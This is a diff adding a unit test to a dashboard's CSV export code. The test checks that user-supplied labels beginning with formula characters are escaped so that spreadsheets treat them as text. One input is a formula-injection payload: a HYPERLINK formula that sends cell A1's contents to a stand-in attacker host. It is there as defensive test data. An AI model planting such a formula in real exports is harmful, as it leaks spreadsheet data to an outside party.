@@ -176,6 +176,38 @@ describe('dashboard money', () => {
     expect(daysBetween('2024-03-02', '2024-03-02')).toEqual([]);
   });
 
+  it('exports labels a spreadsheet would run as formulas as text (a product user names itself)', () => {
+    // Display names and external ids come from the app's own end users; a label starting with
+    // = + - @ (or a tab or carriage return) is a formula to a spreadsheet opening the file.
+    const row: UsageRow = {
+      key: 'pu_1',
+      currency: 'USD',
+      requests: 1,
+      input_tokens: 1,
+      output_tokens: 1,
+      total_tokens: 2,
+      cache_write_tokens: 0,
+      cache_write_1h_tokens: 0,
+      cache_read_tokens: 0,
+      web_search_requests: 0,
+      cost: '0.000001000000',
+      wallet_cost: '0.000001000000',
+    };
+    const cells = (label: string) =>
+      usageCsv('product_user', [row], () => label)
+        .split('\r\n')[1]!
+        .replace(/,USD,.*$/, '');
+    expect(cells('=HYPERLINK("https://evil.example/?"&A1,"x") (u1)')).toBe(
+      `pu_1,"'=HYPERLINK(""https://evil.example/?""&A1,""x"") (u1)"`,
+    );
+    expect(cells('+1+1')).toBe(`pu_1,'+1+1`);
+    expect(cells('-2+3')).toBe(`pu_1,'-2+3`);
+    expect(cells('@SUM(A1)')).toBe(`pu_1,'@SUM(A1)`);
+    expect(cells('\t=1')).toBe(`pu_1,'\t=1`);
+    expect(cells('Ada (u=1)')).toBe('pu_1,Ada (u=1)');
+    expect(cells('-42')).toBe('pu_1,-42'); // a number stays one
+  });
+
   it('leaves out what an older API does not give: empty CSV cells, no cache or search totals', () => {
     // A page of this version served against an API from before the cache parts and the web
     // searches (a rolling deploy): the rows lack the four fields.
